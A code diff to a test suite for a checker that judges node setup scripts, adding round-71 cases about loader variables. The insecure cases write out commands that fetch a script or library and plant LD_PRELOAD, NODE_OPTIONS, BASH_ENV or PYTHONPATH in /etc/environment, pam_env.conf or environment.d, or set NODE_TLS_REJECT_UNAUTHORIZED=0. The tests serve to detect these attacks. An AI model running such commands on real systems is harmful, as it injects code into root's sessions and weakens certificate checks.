@@ -846,13 +846,67 @@ const managerInsecure: NodeCase[] = [
             "systemctl daemon-reload",
         ]),
     ),
-    // MISS: pam_env(8) reads /etc/environment's KEY=VAL lines into login, sshd, su and sudo sessions (root's), and environment.d(5) lists it for the user managers; a loader variable there reaches root's sessions. Accepted (got []).
-    // Still open (round 71): judging /etc/environment and environment.d by LOADER_VARIABLES refuses two secure cases (redteam40-nsec NODE_AZ=, redteam49-nsec NODE_IP= appended to /etc/environment: NODE_[A-Z_]+ matches them, though Node.js reads only its documented NODE_* variables); it needs LOADER_VARIABLES' NODE_ entry narrowed to Node's documented list (a shared-list change to re-test everywhere), then managerLoaderOpenings over environmentFileVariables of those files.
+    // Was a MISS (fixed in round 71): pam_env(8) reads /etc/environment's KEY=VAL lines into login, sshd, su and sudo sessions (root's), and environment.d(5) lists it for the user managers; a loader variable there reaches root's sessions. Accepted (got []). Fix: rootReads LOADER_VARIABLES' NODE_ entry narrowed to Node.js's documented variables (cli.html "Environment variables"; NODE_AZ=, NODE_IP= stay accepted), and userData.ts nodeJudge.written judges SESSION_ENVIRONMENT files (sessionEnvironmentVariables) by managerLoaderOpenings.
     dev(
         "/etc/environment LD_PRELOAD=/opt/x.so (pam_env: every login session, root's)",
         devNodeScript("dev-g71m-etcenv-preload-nodes", [SO_URL, "echo 'LD_PRELOAD=/opt/x.so' >> /etc/environment"]),
         LOADER,
-        true,
+    ),
+    // Neighbours of the round-71 session-environment fix (insecure side): a documented Node.js variable, BASH_ENV by
+    // heredoc, an edit's fragment, pam_env.conf's own syntax, root's ~/.config/environment.d.
+    dev(
+        "/etc/environment NODE_OPTIONS=--require /opt/x.js (a documented Node.js variable)",
+        devNodeScript("dev-g71mn-etcenv-nodeoptions-nodes", [
+            "curl -fsSL -o /opt/x.js https://downloads.example.com/x.js",
+            "echo 'NODE_OPTIONS=--require /opt/x.js' >> /etc/environment",
+        ]),
+        LOADER,
+    ),
+    dev(
+        "/etc/environment NODE_TLS_REJECT_UNAUTHORIZED=0 (Node.js trusts any certificate)",
+        devNodeScript("dev-g71mn-etcenv-nodetls-nodes", ["echo 'NODE_TLS_REJECT_UNAUTHORIZED=0' >> /etc/environment"]),
+        LOADER,
+    ),
+    dev(
+        "/etc/environment heredoc with BASH_ENV=/opt/env.sh",
+        devNodeScript("dev-g71mn-etcenv-bashenv-nodes", [
+            "curl -fsSL -o /opt/env.sh https://downloads.example.com/env.sh",
+            ...heredocFile("/etc/environment", [
+                'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"',
+                "BASH_ENV=/opt/env.sh",
+            ]),
+        ]),
+        LOADER,
+    ),
+    dev(
+        "sed -i appending LD_LIBRARY_PATH=/opt/lib to /etc/environment",
+        devNodeScript("dev-g71mn-etcenv-sed-nodes", ["sed -i '$a LD_LIBRARY_PATH=/opt/lib' /etc/environment"]),
+        LOADER,
+    ),
+    dev(
+        '/etc/environment line whose name comes from a download (echo "$K=/opt/x.so")',
+        devNodeScript("dev-g71mn-etcenv-unreadname-nodes", [
+            SO_URL,
+            "K=$(curl -fsSL https://config.example.com/name)",
+            'echo "$K=/opt/x.so" >> /etc/environment',
+        ]),
+        /loader variable|cannot read/,
+    ),
+    dev(
+        "/etc/security/pam_env.conf LD_PRELOAD DEFAULT=/opt/x.so",
+        devNodeScript("dev-g71mn-pamenvconf-preload-nodes", [
+            SO_URL,
+            "echo 'LD_PRELOAD DEFAULT=/opt/x.so' >> /etc/security/pam_env.conf",
+        ]),
+        LOADER,
+    ),
+    dev(
+        "/root/.config/environment.d/50-py.conf PYTHONPATH=/opt/py (root's user manager)",
+        devNodeScript("dev-g71mn-rootenvd-pythonpath-nodes", [
+            "mkdir -p /root/.config/environment.d",
+            "echo 'PYTHONPATH=/opt/py' > /root/.config/environment.d/50-py.conf",
+        ]),
+        LOADER,
     ),
     // Was a MISS (fixed in round 71): ld.so(8) /etc/ld.so.preload ("a whitespace-separated list of ELF shared objects to be loaded before the program", every program's, root's and setuid ones' too): only a library under the pods' data directories was refused. Accepted (got []). Fix: userData.ts nodeJudge.written refuses any library named there (none known harmless: fail closed).
     dev(
@@ -878,8 +932,7 @@ const managerInsecure: NodeCase[] = [
         ]),
         LOADER,
     ),
-    // MISS: environment.d(5) (root's user manager) with a loader variable; same as /etc/environment above.
-    // Still open (round 71): see /etc/environment above (NODE_* names in LOADER_VARIABLES).
+    // Was a MISS (fixed in round 71): environment.d(5) (root's user manager) with a loader variable; same as /etc/environment above.
     dev(
         "/etc/environment.d/50-preload.conf LD_PRELOAD=/opt/x.so (root's user manager)",
         devNodeScript("dev-g71mn-envd-preload-nodes", [
@@ -887,7 +940,6 @@ const managerInsecure: NodeCase[] = [
             ...heredocFile("/etc/environment.d/50-preload.conf", ["LD_PRELOAD=/opt/x.so"]),
         ]),
         LOADER,
-        true,
     ),
     dev(
         "gdbus call ... Manager.SetEnvironment \"['PYTHONPATH=/opt/py']\"",
@@ -1103,6 +1155,27 @@ const managerSecure: NodeCase[] = [
         "/etc/environment.d/10-lang.conf LANG=C.UTF-8",
         devNodeScript("dev-g71mn-envd-lang-ok-nodes", [
             ...heredocFile("/etc/environment.d/10-lang.conf", ["LANG=C.UTF-8"]),
+        ]),
+    ),
+    // Neighbours of the round-71 session-environment fix (secure side): a script's own NODE_ names (no variable Node.js
+    // reads), cosmetic Node.js variables, pam_env.conf with a harmless name.
+    dev(
+        "/etc/environment NODE_ROLE=worker and NODE_POOL=general (a script's own names)",
+        devNodeScript("dev-g71mn-etcenv-noderole-ok-nodes", [
+            "echo 'NODE_ROLE=worker' >> /etc/environment",
+            "echo 'NODE_POOL=general' >> /etc/environment",
+        ]),
+    ),
+    dev(
+        "/etc/environment NODE_DISABLE_COLORS=1, NODE_NO_WARNINGS=1 (cosmetic Node.js variables)",
+        devNodeScript("dev-g71mn-etcenv-nodecolors-ok-nodes", [
+            ...heredocFile("/etc/environment", ["NODE_DISABLE_COLORS=1", "NODE_NO_WARNINGS=1", "LANG=C.UTF-8"]),
+        ]),
+    ),
+    dev(
+        "/etc/security/pam_env.conf EDITOR DEFAULT=vim",
+        devNodeScript("dev-g71mn-pamenvconf-editor-ok-nodes", [
+            "echo 'EDITOR DEFAULT=vim' >> /etc/security/pam_env.conf",
         ]),
     ),
 ];
